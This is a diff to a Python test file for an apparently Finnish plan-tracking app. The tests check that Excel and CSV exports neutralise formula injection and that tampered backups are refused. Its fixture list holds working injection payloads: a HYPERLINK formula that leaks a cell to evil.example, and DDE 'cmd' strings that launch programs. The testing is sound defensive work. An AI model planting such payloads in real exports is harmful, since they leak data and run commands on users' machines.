@@ -14,7 +14,7 @@ import yaml
 from openpyxl import load_workbook
 from sqlalchemy import update
 
-from core import exporter
+from core import cells, exporter, queries
 from core.exporter import (
     ALL_FILES,
     EVALUATION_COLUMNS,
@@ -128,7 +128,8 @@ def test_workbook_has_one_sheet_per_file(plan, store):
     assert (7, None, "lk4_5", "kymenlaakso", 2019, 88.5, "88 %", None, None) in obs
     row = next(r for r in wb["measures"].iter_rows(min_row=2) if r[0].value == "kymsote-I.1-1")
     contact = row[MEASURE_COLUMNS.index("contact")]
-    assert contact.value == "=SUM(A1) Liisa" and contact.data_type == "s"  # text, never a formula
+    # text, never a formula, and quoted so that editing the cell in Excel does not make it one (#12)
+    assert contact.value == "'=SUM(A1) Liisa" and contact.data_type == "s"
     assert row[MEASURE_COLUMNS.index("status")].value == "käynnissä"
     assert row[MEASURE_COLUMNS.index("end_year")].value == 2024
     assert [r[2] for r in wb["evaluations"].iter_rows(min_row=2, values_only=True)] == [None, 3]
@@ -346,3 +347,275 @@ def test_restore_refuses_a_store_that_is_not_empty(plan, store, tmp_path):
     url2 = f"sqlite:///{tmp_path / 'uusi.db'}"
     restore_store(import_workbook(export_workbook(plan, store)), url2)
     assert_same_data(store, Store.open(url2, plan))  # already seeded: not seeded again from the plan
+
+
+# ------------------------------------------------------------------------------------------
+# Hostile texts (#12 items 1, 2): every export neutralises formulas; the app's own import gives them back
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=sarkain alussa",
+    "\r=CR alussa",
+    "Wordin\x0brivinvaihto\x0c ja sivunvaihto",
+    "'=jo valmiiksi lainattu",
+    "- luettelo\n- toinen",
+]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")
+
+
+@pytest.fixture
+def hostile_store(store):
+    """The store with hostile texts in every kind of text field (written past the store's own cleaning)."""
+    fields = ["toimenpide", "mittari", "aikataulu", "toimijat", "seuranta", "contact", "note"]
+    with store.engine.begin() as conn:
+        conn.execute(update(measures_table).where(measures_table.c.measure_id == "kymsote-I.1-1")
+                     .values(**dict(zip(fields, HOSTILE, strict=False))))
+        conn.execute(update(measures_table).where(measures_table.c.measure_id == "hamina-I.2-1")
+                     .values(toimenpide=HOSTILE[7], mittari=HOSTILE[8], toimijat=HOSTILE[9], seuranta=HOSTILE[0]))
+    store.save_evaluation("kymsote-I.1-1", 2022, {"rating": 2, "comment": HOSTILE[1], "evaluator": HOSTILE[4]},
+                          None, Editor("Testi"))
+    store.save_event(None, {"title": HOSTILE[3], "months": "3", "description": HOSTILE[0]}, None, Editor("Testi"))
+    return store
+
+
+def _dangerous(text: str) -> bool:
+    return text.startswith(TRIGGERS) and not NUMBER.fullmatch(text)
+
+
+def test_workbook_cells_are_never_formulas(plan, hostile_store):
+    wb = load_workbook(io.BytesIO(export_workbook(plan, hostile_store)))
+    texts = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+                    assert not _dangerous(xlsx_unescape(cell.value)), (ws.title, cell.coordinate, cell.value)
+    assert "'" + HOSTILE[0] in texts and "'" + HOSTILE[1] in texts and "''=jo valmiiksi lainattu" in texts
+    assert "'" + xlsx_escape(HOSTILE[6]) in texts  # the CR is escaped, the quote still leads
+
+
+def test_zip_csv_cells_are_never_formulas(plan, hostile_store):
+    cells = []
+    with zipfile.ZipFile(io.BytesIO(export_csv_zip(plan, hostile_store))) as zf:
+        for name in zf.namelist():
+            if name.endswith(".csv"):
+                for row in csv.reader(io.StringIO(zf.read(name).decode("utf-8"), newline="")):
+                    cells += row
+    assert cells and not [c for c in cells if _dangerous(c)]
+    assert "'" + HOSTILE[0] in cells and "'- luettelo\n- toinen" in cells
+
+
+@pytest.mark.parametrize("export,read", [(export_workbook, import_workbook), (export_csv_zip, import_csv_zip)],
+                         ids=["xlsx", "zip"])
+def test_hostile_texts_round_trip_exactly(plan, hostile_store, export, read):
+    restored = restore_store(read(export(plan, hostile_store)))
+    assert_same_data(hostile_store, restored)
+    m = restored.measure("kymsote-I.1-1")
+    assert [m[f] for f in ("toimenpide", "mittari", "aikataulu", "toimijat", "seuranta", "contact", "note")] == \
+        HOSTILE[:7]
+    m = restored.measure("hamina-I.2-1")
+    assert (m["toimenpide"], m["mittari"], m["toimijat"]) == (HOSTILE[7], HOSTILE[8], HOSTILE[9])
+    ev = restored.evaluations().set_index(["measure_id", "year"]).loc[("kymsote-I.1-1", 2022)]
+    assert (ev["comment"], ev["evaluator"]) == (HOSTILE[1], HOSTILE[4])
+    event = restored.events().set_index("title").loc[HOSTILE[3]]
+    assert event["description"] == HOSTILE[0]
+
+
+def test_unzipped_export_loads_as_data_folder_with_the_original_texts(plan, hostile_store, tmp_path):
+    with zipfile.ZipFile(io.BytesIO(export_csv_zip(plan, hostile_store))) as zf:
+        zf.extractall(tmp_path)
+    loaded = load_plan(tmp_path)
+    m = next(m for m in loaded.measures if m.measure_id == "kymsote-I.1-1")
+    assert (m.toimenpide, m.mittari, m.contact) == (HOSTILE[0], HOSTILE[1], HOSTILE[5])
+
+
+def test_numbers_stay_numbers_in_the_backup(plan, store):
+    tables = export_tables(plan, store)
+    tables["observations.csv"].loc[0, "value"] = "-1.5"
+    tables["observations.csv"].loc[0, "value_as_printed"] = "-1,5"
+    wb = load_workbook(io.BytesIO(exporter.tables_to_workbook(tables)))
+    value, printed = wb["observations"]["F2"], wb["observations"]["G2"]
+    assert (value.value, value.data_type) == (-1.5, "n")
+    assert printed.value == "-1,5"  # a plain number in a text column is no formula: not quoted
+    with zipfile.ZipFile(io.BytesIO(exporter.tables_to_zip(tables))) as zf:
+        assert zf.read("observations.csv").decode().splitlines()[1].split(",")[5] == "-1.5"
+
+
+def test_measure_downloads_quote_formulas_and_keep_numbers():
+    frame = pd.DataFrame({
+        "toimenpide": [HOSTILE[0], HOSTILE[7], "_x0041_ ja tavallinen", None],
+        "seuranta": [HOSTILE[2], HOSTILE[5], HOSTILE[6], "\x01ohjausmerkki"],
+        "start_year": [2020, None, 2021, 2022],
+        "luku": [-1.5, 2.0, float("nan"), 3.25],
+        "permanent": [True, False, True, False],
+    })
+    wb = load_workbook(io.BytesIO(exporter.xlsx_download(frame, "toimenpiteet")))
+    ws = wb["toimenpiteet"]
+    rows = list(ws.iter_rows(min_row=2))
+    assert all(c.data_type != "f" for r in rows for c in r)
+    assert rows[0][0].value == "'" + HOSTILE[0] and rows[0][0].data_type == "s"
+    assert rows[1][0].value == "Wordin\nrivinvaihto\n ja sivunvaihto"  # \v and \f: no IllegalCharacterError
+    assert rows[2][0].value == "_x005F_x0041_ ja tavallinen" and rows[3][0].value is None  # Excel shows _x0041_
+    assert [r[1].value for r in rows] == ["'" + HOSTILE[2], "'" + HOSTILE[5], "\n=CR alussa", " ohjausmerkki"]
+    assert [r[3].value for r in rows] == [-1.5, 2, None, 3.25] and rows[0][3].data_type == "n"
+    assert [r[2].value for r in rows] == [2020, None, 2021, 2022] and rows[0][4].value is True
+    text = exporter.csv_download(frame).decode("utf-8-sig")
+    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
+    assert not [c for c in cells if _dangerous(c)]
+    assert "'" + HOSTILE[0] in cells and "-1.5" in cells
+
+
+# ------------------------------------------------------------------------------------------
+# Tampered backups (#12 item 7): every row read or refused; a formula cell never becomes an empty text
+
+def _with_dimension(content: bytes, sheet: str, ref: str) -> bytes:
+    """The workbook with sheet ``sheet`` claiming the dimension ``ref`` (as a stale record would)."""
+    out = io.BytesIO()
+    sheet_file = f"xl/worksheets/sheet{list(SHEETS).index(sheet) + 1}.xml"
+    with zipfile.ZipFile(io.BytesIO(content)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            data = zin.read(info.filename)
+            if info.filename == sheet_file:
+                xml = re.sub(r"<dimension[^>]*/>", "", data.decode("utf-8"))
+                xml = re.sub(r"(<worksheet[^>]*>(?:<sheetPr[^>]*/>|<sheetPr.*?</sheetPr>)?)",
+                             lambda m: m.group(1) + f'<dimension ref="{ref}"/>', xml, count=1)
+                data = xml.encode("utf-8")
+            zout.writestr(info, data)
+    return out.getvalue()
+
+
+def _with_formula(content: bytes, sheet: str, coordinate: str, formula: str) -> bytes:
+    wb = load_workbook(io.BytesIO(content))
+    wb[sheet][coordinate] = formula  # openpyxl writes a formula without a cached value, like a script would
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+def test_workbook_with_a_stale_dimension_is_read_whole(plan, store):
+    content = _with_dimension(export_workbook(plan, store), "measures", "A1:B2")
+    tables = import_workbook(content)
+    assert list(tables["measures.csv"]["measure_id"]) == ["kymsote-I.1-1", "hamina-I.1-1", "hamina-I.2-1"]
+    assert list(tables["measures.csv"].columns) == MEASURE_COLUMNS  # every column too, not only A:B
+    assert_same_data(store, restore_store(tables))
+
+
+def test_workbook_with_a_formula_cell_is_refused(plan, store):
+    column = chr(ord("A") + MEASURE_COLUMNS.index("toimenpide"))
+    content = _with_formula(export_workbook(plan, store), "measures", f"{column}2", '=HYPERLINK("http://x","y")')
+    with pytest.raises(BackupError) as exc:
+        import_workbook(content)
+    assert f"Välilehden 'measures' solussa {column}2 on kaava" in exc.value.text("fi")
+    assert f"Sheet 'measures', cell {column}2 holds a formula" in exc.value.text("en")
+
+
+@pytest.mark.parametrize(("name", "content", "expected"), [
+    ("plan.yaml", b"[" * 100_000, "YAML"),
+    ("plan.yaml", b"name: " + b"9" * 5000 + b"\n", "YAML"),
+    ("goals.csv", b"goal_id," + b"x" * 131_073 + b"\nI,1\n", "CSV-tiedostoa ei voitu lukea"),
+], ids=["yaml-nested", "yaml-5000-digits", "csv-header-cell-131073"])
+def test_malformed_zip_member_is_refused(plan, store, name, content, expected):
+    files = {**_zip_files(plan, store), name: content}
+    with pytest.raises(BackupError) as exc:
+        import_csv_zip(_zip_with(files))
+    assert expected in str(exc.value)
+
+
+# ------------------------------------------------------------------------------------------
+# python -m core restore
+
+def _run(argv: list[str], capsys) -> tuple[int, str, str]:
+    from core.__main__ import main
+
+    code = main(argv)
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+@pytest.mark.parametrize("export,suffix", [(export_workbook, "xlsx"), (export_csv_zip, "zip")], ids=["xlsx", "zip"])
+def test_cli_restore_round_trip_into_an_empty_sqlite(plan, hostile_store, tmp_path, capsys, export, suffix):
+    backup = tmp_path / f"varmuuskopio.{suffix}"
+    backup.write_bytes(export(plan, hostile_store))
+    url = f"sqlite:///{tmp_path / 'uusi.db'}"
+    code, out, err = _run(["restore", str(backup), "--database-url", url], capsys)
+    assert (code, err) == (0, "")
+    assert out.startswith(f"Varmuuskopio varmuuskopio.{suffix} palautettiin tietokantaan sqlite:///")
+    assert f"{len(hostile_store.measures())} toimenpidettä" in out
+    restored = Store.open(url)
+    assert_same_data(hostile_store, restored)
+    assert restored.measure("kymsote-I.1-1")["toimenpide"] == HOSTILE[0]
+    # a second restore into the now non-empty store is refused and changes nothing
+    before = store_data(restored)
+    code, out, err = _run(["restore", str(backup), "--database-url", url, "--lang", "en"], capsys)
+    assert code == 1 and out == ""
+    assert "The database is not empty" in err and "nothing was written to the database" in err
+    after = store_data(Store.open(url))
+    for name in before:
+        pd.testing.assert_frame_equal(before[name], after[name])
+
+
+def test_cli_restore_refuses_tampered_and_unreadable_files(plan, store, tmp_path, capsys):
+    url = f"sqlite:///{tmp_path / 'tyhja.db'}"
+    column = chr(ord("A") + MEASURE_COLUMNS.index("toimenpide"))
+    formula = tmp_path / "kaava.xlsx"
+    formula.write_bytes(_with_formula(export_workbook(plan, store), "measures", f"{column}3", "=1+1"))
+    code, out, err = _run(["restore", str(formula), "--database-url", url], capsys)
+    assert code == 1 and out == ""
+    assert f"solussa {column}3 on kaava" in err and "Palautus hylättiin; tietokantaan ei kirjoitettu mitään." in err
+    assert "Traceback" not in err
+    code, out, err = _run(["restore", str(tmp_path / "ei-ole.zip"), "--database-url", url], capsys)
+    assert code == 1 and "Tiedostoa ei-ole.zip" not in err and "ei voitu lukea" in err and "Traceback" not in err
+    stale = tmp_path / "vanha.xlsx"  # a stale dimension is read whole: every measure restored
+    stale.write_bytes(_with_dimension(export_workbook(plan, store), "measures", "A1:R2"))
+    code, out, err = _run(["restore", str(stale), "--database-url", url], capsys)
+    assert code == 0, err
+    assert_same_data(store, Store.open(url))
+    bad_url = tmp_path / "ok.zip"
+    bad_url.write_bytes(export_csv_zip(plan, store))
+    code, out, err = _run(["restore", str(bad_url), "--database-url", "nonsense://x", "--lang", "en"], capsys)
+    assert code == 1 and "could not be opened or written" in err and "Traceback" not in err
+
+
+# ------------------------------------------------------------------------------------------
+# core.cells: the rules themselves
+
+@pytest.mark.parametrize(("text", "exported"), [
+    ("=1+1", "'=1+1"), ("+1+cmd", "'+1+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
+    ("\rx", "'\rx"), ("'=x", "''=x"), ("''-x", "'''-x"),
+    ("-1.5", "-1.5"), ("+3", "+3"), ("-1,5", "-1,5"), ("1e5", "1e5"), ("'5", "'5"), ("'", "'"), ("", ""),
+    ("tavallinen", "tavallinen"), (" =välilyönti", " =välilyönti"), ("a=b", "a=b"), ("\n=x", "\n=x"),
+])
+def test_formula_quote_round_trip(text, exported):
+    assert cells.neutralise_formula(text) == exported
+    assert cells.restore_formula(exported) == text
+    assert cells.neutralise_formula(-1.5) == -1.5 and cells.restore_formula(None) is None
+
+
+@pytest.mark.parametrize(("text", "clean", "notable"), [
+    ("Rivi\x0btoinen", "Rivi\ntoinen", True), ("sivu\x0cvaihto", "sivu\nvaihto", True),
+    ("a\r\nb", "a\nb", False), ("a\rb", "a\nb", True), ("a\x00b\x1fc\x7f", "a b c\x7f", True),
+    ("sarkain\tja\nrivi", "sarkain\tja\nrivi", False),
+])
+def test_control_characters_are_cleaned(text, clean, notable):
+    assert cells.clean_control_chars(text) == clean
+    assert cells.has_control_chars(text) is notable
+
+
+def test_store_saves_words_vertical_tab_as_a_line_break_and_the_excel_download_works(plan, store, editor):
+    m = store.measure("kymsote-I.1-1")
+    store.save_measure_edits([MeasureEdit("kymsote-I.1-1", m["version"], {
+        "toimenpide": "Ensimmäinen\x0btoinen\x0ckolmas\x01loppu", "contact": "Liisa\x0b040 123"})], editor)
+    new_id = store.add_measure("hamina", "I.2", {"toimenpide": "Uusi\x0brivi"}, editor)
+    m = store.measure("kymsote-I.1-1")
+    assert (m["toimenpide"], m["contact"]) == ("Ensimmäinen\ntoinen\nkolmas loppu", "Liisa\n040 123")
+    assert store.measure(new_id)["toimenpide"] == "Uusi\nrivi"
+    frame = queries.measures_display(plan, store.measures(), "fi")
+    ws = load_workbook(io.BytesIO(exporter.xlsx_download(frame, "toimenpiteet"))).active
+    assert ws.max_row == len(frame) + 1
